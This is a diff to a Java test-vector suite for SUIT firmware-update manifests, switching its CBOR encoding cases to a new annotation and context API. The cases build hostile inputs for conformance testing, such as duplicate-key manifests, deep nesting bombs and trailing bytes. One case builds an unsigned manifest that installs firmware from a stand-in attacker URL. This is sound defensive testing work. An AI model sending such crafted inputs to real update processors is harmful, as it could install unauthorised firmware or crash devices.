@@ -5,6 +5,9 @@ import dev.suitcase.vectors.cbor.CborWriter;
 import dev.suitcase.vectors.cbor.HeadWidth;
 import dev.suitcase.vectors.cbor.MajorType;
 import dev.suitcase.vectors.generate.BuiltCase;
+import dev.suitcase.vectors.generate.Case;
+import dev.suitcase.vectors.generate.CaseContext;
+import dev.suitcase.vectors.generate.Sweep;
 import dev.suitcase.vectors.model.Advisory;
 import dev.suitcase.vectors.model.Bytes;
 import dev.suitcase.vectors.model.Expectation;
@@ -84,7 +87,7 @@ final class SuitEncodingCases {
                 .advisory(Advisory.Basis.PRODUCER_RULE, MAP_ORDER_RULE), input);
     }
 
-    @SuitCase(area = "cbor", name = "manifest-keys-unsorted",
+    @Case(id = "suit.*.cbor.manifest-keys-unsorted", sweep = Sweep.SUIT,
             title = "{alg}-signed manifest whose map keys are not in canonical order",
             severity = Severity.LOW,
             requirements = {"SUITM-8.1-canonical-maps"},
@@ -98,12 +101,13 @@ final class SuitEncodingCases {
                     processor that checks it rejects, and the suite recommends checking. A processor declaring the
                     cbor-lenient profile accepts any order, and the manifest is otherwise valid; since the signature
                     covers the bytes as received, accepting is advisory, not a security failure.""")
-    BuiltCase manifestKeysUnsorted(SuitFixture f) {
+    BuiltCase manifestKeysUnsorted(CaseContext<SuitFixture> context) {
+        SuitFixture f = context.fixture();
         Bytes manifest = SuitFixture.baseline().map().sorted().swapped(3, 4).asGiven();
         return unsorted(f.input(signedRaw(f, manifest), SuitFixture.device(), Scope.APPLICABILITY));
     }
 
-    @SuitCase(area = "cbor", name = "common-keys-unsorted",
+    @Case(id = "suit.*.cbor.common-keys-unsorted", sweep = Sweep.SUIT,
             title = "{alg}-signed manifest whose suit-common lists the shared sequence before the components",
             severity = Severity.LOW,
             requirements = {"SUITM-8.1-canonical-maps"},
@@ -114,13 +118,14 @@ final class SuitEncodingCases {
 
                     A processor checking canonical maps (§8.1, a rule for encoders) rejects; under the cbor-lenient
                     profile it accepts. Accepting is advisory.""")
-    BuiltCase commonKeysUnsorted(SuitFixture f) {
+    BuiltCase commonKeysUnsorted(CaseContext<SuitFixture> context) {
+        SuitFixture f = context.fixture();
         Bytes common = SuitFixture.common(SuitFixture.shared()).map().sorted().swapped(0, 1).asGiven();
         Manifest manifest = SuitFixture.baseline().withMember(ManifestKey.COMMON, CborValue.bytes(common));
         return unsorted(f.input(f.signed(manifest), SuitFixture.device(), Scope.APPLICABILITY));
     }
 
-    @SuitCase(area = "cbor", name = "parameters-unsorted",
+    @Case(id = "suit.*.cbor.parameters-unsorted", sweep = Sweep.SUIT,
             title = "{alg}-signed manifest whose override-parameters map is not in canonical order",
             severity = Severity.LOW,
             requirements = {"SUITM-8.1-canonical-maps", "SUITM-8.4.10.3-override"},
@@ -131,14 +136,15 @@ final class SuitEncodingCases {
 
                     A processor checking canonical maps (§8.1, a rule for encoders) rejects; under the cbor-lenient
                     profile it accepts. Accepting is advisory.""")
-    BuiltCase parametersUnsorted(SuitFixture f) {
+    BuiltCase parametersUnsorted(CaseContext<SuitFixture> context) {
+        SuitFixture f = context.fixture();
         Bytes parameters = SuitFixture.imageParameters().map().sorted().swapped(0, 1).asGiven();
         CommandSequence shared = CommandSequence.empty().command(Command.OVERRIDE_PARAMETERS, parameters)
                 .condition(Command.VENDOR_IDENTIFIER).condition(Command.CLASS_IDENTIFIER);
         return unsorted(f.input(f.signed(SuitFixture.manifest(shared)), SuitFixture.device(), Scope.APPLICABILITY));
     }
 
-    @SuitCase(area = "cbor", name = "envelope-keys-unsorted",
+    @Case(id = "suit.*.cbor.envelope-keys-unsorted", sweep = Sweep.SUIT,
             title = "{alg} envelope with an integrated payload placed between wrapper and manifest",
             severity = Severity.LOW,
             requirements = {"SUITM-8.1-canonical-maps"},
@@ -149,13 +155,14 @@ final class SuitEncodingCases {
 
                     A processor checking canonical maps (§8.1, a rule for encoders) rejects; under the cbor-lenient
                     profile it installs the integrated payload and accepts. Accepting is advisory.""")
-    BuiltCase envelopeKeysUnsorted(SuitFixture f) {
+    BuiltCase envelopeKeysUnsorted(CaseContext<SuitFixture> context) {
+        SuitFixture f = context.fixture();
         Envelope envelope = SuitImageCases.integratedEnvelope(f);
         Bytes encoded = new CborWriter().tag(Tag.ENVELOPE).raw(envelope.map().sorted().swapped(1, 2).asGiven()).toBytes();
         return unsorted(f.input(encoded, SuitFixture.device().withPayloads(Map.of()), Scope.INSTALL));
     }
 
-    @SuitCase(area = "cbor", name = "manifest-non-minimal-integer",
+    @Case(id = "suit.*.cbor.manifest-non-minimal-integer", sweep = Sweep.SUIT,
             title = "{alg}-signed manifest with its sequence number in a longer head than needed",
             severity = Severity.LOW,
             requirements = {"SUITM-8.1-canonical-maps"},
@@ -170,14 +177,15 @@ final class SuitEncodingCases {
                     The reference processor decodes strictly and rejects (cbor-lenient only relaxes map order), and
                     the suite recommends it: varied encodings of one value invite two parsers to disagree. The
                     digest and signature cover the bytes as received, so accepting is advisory.""")
-    BuiltCase manifestNonMinimalInteger(SuitFixture f) {
+    BuiltCase manifestNonMinimalInteger(CaseContext<SuitFixture> context) {
+        SuitFixture f = context.fixture();
         Manifest manifest = SuitFixture.baseline().withEncodedMember(ManifestKey.SEQUENCE_NUMBER,
                 new CborWriter().head(MajorType.UNSIGNED, SuitFixture.MANIFEST_SEQUENCE_NUMBER, HeadWidth.ONE).toBytes());
         return SuitFixture.rejectedForProducerRule(Reason.NON_DETERMINISTIC_CBOR, PREFERRED_SERIALIZATION_RULE,
                 f.input(f.signed(manifest), SuitFixture.device(), Scope.APPLICABILITY));
     }
 
-    @SuitCase(area = "cbor", name = "manifest-duplicate-key",
+    @Case(id = "suit.*.cbor.manifest-duplicate-key", sweep = Sweep.SUIT,
             title = "{alg}-signed manifest with its sequence number key twice, 7 then 9",
             severity = Severity.HIGH,
             requirements = {"SUITM-8.1-unique-keys", "SUITM-8.4.2-rollback"},
@@ -190,14 +198,15 @@ final class SuitEncodingCases {
                     excludes it too: a processor must reject. One that keeps the last value and a signing tool or
                     update server that kept the first disagree about the sequence number, and with it about
                     rollback.""")
-    BuiltCase manifestDuplicateKey(SuitFixture f) {
+    BuiltCase manifestDuplicateKey(CaseContext<SuitFixture> context) {
+        SuitFixture f = context.fixture();
         List<EncodedMap.Entry> entries = new ArrayList<>(SuitFixture.baseline().map().sorted().entries());
         entries.add(2, new EncodedMap.Entry(CborValue.integer(ManifestKey.SEQUENCE_NUMBER), CborValue.integer(9).toBytes()));
         Bytes manifest = EncodedMap.of(entries).asGiven();
         return rejected(Reason.DUPLICATE_KEY, f.input(signedRaw(f, manifest), SuitFixture.device(), Scope.AUTHENTICATE));
     }
 
-    @SuitCase(area = "cbor", name = "envelope-duplicate-manifest",
+    @Case(id = "suit.*.cbor.envelope-duplicate-manifest", sweep = Sweep.SUIT,
             title = "{alg} envelope with two suit-manifest elements, the first unsigned",
             severity = Severity.CRITICAL,
             requirements = {"SUITM-8.1-unique-keys", "SUITM-8.3-manifest-digest", "RFC9124-REQ.SEC.AUTHENTIC"},
@@ -211,7 +220,8 @@ final class SuitEncodingCases {
                     entries cannot be used where the data can be attacked, and anyone can edit an envelope). One
                     whose digest check reads the last manifest and whose interpreter reads the first, as happens
                     when two map lookups behave differently, authenticates one manifest and runs the other.""")
-    BuiltCase envelopeDuplicateManifest(SuitFixture f) {
+    BuiltCase envelopeDuplicateManifest(CaseContext<SuitFixture> context) {
+        SuitFixture f = context.fixture();
         Envelope envelope = f.envelope(SuitFixture.baseline());
         Bytes attackers = SuitFixture.baseline()
                 .withSequence(ManifestKey.INSTALL, SuitFixture.installFrom("https://attacker.example/app.bin")).encode();
@@ -221,7 +231,7 @@ final class SuitEncodingCases {
         return rejected(Reason.DUPLICATE_KEY, f.input(encoded, SuitFixture.device(), Scope.INSTALL));
     }
 
-    @SuitCase(area = "cbor", name = "envelope-trailing-bytes",
+    @Case(id = "suit.*.cbor.envelope-trailing-bytes", sweep = Sweep.SUIT,
             title = "{alg} envelope followed by one extra byte",
             severity = Severity.MEDIUM,
             requirements = {"SUITM-8.2-envelope"},
@@ -233,12 +243,13 @@ final class SuitEncodingCases {
                     The input is not one CBOR data item: a processor must reject it as malformed. One that stops
                     reading after the first item accepts arbitrary appended data, which a length-prefixed
                     transport or a later stage may interpret.""")
-    BuiltCase envelopeTrailingBytes(SuitFixture f) {
+    BuiltCase envelopeTrailingBytes(CaseContext<SuitFixture> context) {
+        SuitFixture f = context.fixture();
         Bytes envelope = new CborWriter().raw(f.signed(SuitFixture.baseline())).unsigned(0).toBytes();
         return rejected(Reason.MALFORMED_CBOR, f.input(envelope, SuitFixture.device(), Scope.AUTHENTICATE));
     }
 
-    @SuitCase(area = "cbor", name = "manifest-trailing-bytes",
+    @Case(id = "suit.*.cbor.manifest-trailing-bytes", sweep = Sweep.SUIT,
             title = "{alg}-signed manifest bstr holding the manifest map and one extra byte",
             severity = Severity.MEDIUM,
             requirements = {"SUITM-8.2-bstr-cbor-content", "SUITM-8.1-bstr-wrapped"},
@@ -250,12 +261,13 @@ final class SuitEncodingCases {
                     A bstr .cbor member holds exactly one data item: a processor must reject the manifest as
                     malformed, even though it is signed. Accepting means two parsers may read different manifests
                     from the same signed bytes.""")
-    BuiltCase manifestTrailingBytes(SuitFixture f) {
+    BuiltCase manifestTrailingBytes(CaseContext<SuitFixture> context) {
+        SuitFixture f = context.fixture();
         Bytes manifest = new CborWriter().raw(SuitFixture.baseline().encode()).unsigned(0).toBytes();
         return rejected(Reason.MALFORMED_CBOR, f.input(signedRaw(f, manifest), SuitFixture.device(), Scope.AUTHENTICATE));
     }
 
-    @SuitCase(area = "cbor", name = "envelope-nesting-bomb",
+    @Case(id = "suit.*.cbor.envelope-nesting-bomb", sweep = Sweep.SUIT,
             title = "{alg} envelope with an extension element nested 1000 arrays deep",
             severity = Severity.MEDIUM,
             requirements = {"SUITM-8.1-bstr-wrapped", "SUITM-8.2-envelope"},
@@ -270,14 +282,15 @@ final class SuitEncodingCases {
                     The suite recommends rejecting it before any authentication, for a hardening reason that
                     prevents a real attack: a recursive decoder without a depth limit overflows its stack on a few
                     kilobytes of input anyone can send.""")
-    BuiltCase envelopeNestingBomb(SuitFixture f) {
+    BuiltCase envelopeNestingBomb(CaseContext<SuitFixture> context) {
+        SuitFixture f = context.fixture();
         Bytes envelope = f.envelope(SuitFixture.baseline()).withEncodedEntry(UNASSIGNED_ENVELOPE_KEY, nestedArrays(BOMB_DEPTH))
                 .encode();
         return BuiltCase.of(Expectation.reject(Reason.RESOURCE_LIMIT).advisory(Advisory.Basis.HARDENING, ENVELOPE_NESTING_RULE),
                 f.input(envelope, SuitFixture.device(), Scope.AUTHENTICATE));
     }
 
-    @SuitCase(area = "cbor", name = "block-nesting-bomb",
+    @Case(id = "suit.*.cbor.block-nesting-bomb", sweep = Sweep.SUIT,
             title = "Authentication block nested 1000 arrays deep, on a device with an {alg} trust anchor",
             severity = Severity.HIGH,
             requirements = {"SUITM-8.3-cose-tagged", "SUITM-8.3-auth-block-required"},
@@ -292,14 +305,14 @@ final class SuitEncodingCases {
                     The wrapper is parsed before anything is authenticated, so this is input anyone can send. A
                     processor must reject it without exhausting its stack or memory: no COSE structure nests this
                     deep.""")
-    BuiltCase blockNestingBomb(SuitFixture f) {
+    BuiltCase blockNestingBomb(CaseContext<SuitFixture> context) {
         Bytes manifest = SuitFixture.baseline().encode();
         AuthenticationWrapper wrapper = SuitFixture.unsignedWrapper(manifest).withBlock(nestedArrays(BOMB_DEPTH));
-        return rejected(Reason.RESOURCE_LIMIT, f.input(Envelope.of(wrapper, manifest).encode(), SuitFixture.device(),
-                Scope.AUTHENTICATE));
+        return rejected(Reason.RESOURCE_LIMIT, context.fixture().input(Envelope.of(wrapper, manifest).encode(),
+                SuitFixture.device(), Scope.AUTHENTICATE));
     }
 
-    @SuitCase(area = "cbor", name = "manifest-nesting-bomb",
+    @Case(id = "suit.*.cbor.manifest-nesting-bomb", sweep = Sweep.SUIT,
             title = "{alg}-signed manifest with an extension member nested 1000 arrays deep",
             severity = Severity.LOW,
             requirements = {"SUITM-8.4-extension-members"},
@@ -312,13 +325,14 @@ final class SuitEncodingCases {
                     nesting, so one that decodes it all and ignores it is conformant. Authentic input can still be
                     hostile (a compromised build server, a buggy authoring tool): the suite recommends rejecting
                     the manifest without exhausting the stack while decoding it, as hardening.""")
-    BuiltCase manifestNestingBomb(SuitFixture f) {
+    BuiltCase manifestNestingBomb(CaseContext<SuitFixture> context) {
+        SuitFixture f = context.fixture();
         Manifest manifest = SuitFixture.baseline().withEncodedMember(UNASSIGNED_MANIFEST_KEY, nestedArrays(BOMB_DEPTH));
         return BuiltCase.of(Expectation.reject(Reason.RESOURCE_LIMIT).advisory(Advisory.Basis.HARDENING, MANIFEST_NESTING_RULE),
                 f.input(f.signed(manifest), SuitFixture.device(), Scope.AUTHENTICATE));
     }
 
-    @SuitCase(area = "cbor", name = "sequence-nesting-bomb",
+    @Case(id = "suit.*.cbor.sequence-nesting-bomb", sweep = Sweep.SUIT,
             title = "{alg}-signed manifest with try-each nested 40 levels deep",
             severity = Severity.MEDIUM,
             requirements = {"SUITM-8.4.10.2-try-each", "SUITM-8.4.9.5-abort"},
@@ -335,7 +349,8 @@ final class SuitEncodingCases {
                     The manifest cannot succeed, so a processor must reject it: for its own nesting limit, or after
                     running every level. One that recurses without a bound on nested sequences can be driven off
                     its stack by an authentic but hostile manifest.""")
-    BuiltCase sequenceNestingBomb(SuitFixture f) {
+    BuiltCase sequenceNestingBomb(CaseContext<SuitFixture> context) {
+        SuitFixture f = context.fixture();
         CommandSequence abort = CommandSequence.empty().condition(Command.ABORT);
         CommandSequence nested = abort;
         for (int level = 0; level < SEQUENCE_BOMB_DEPTH; level++) {
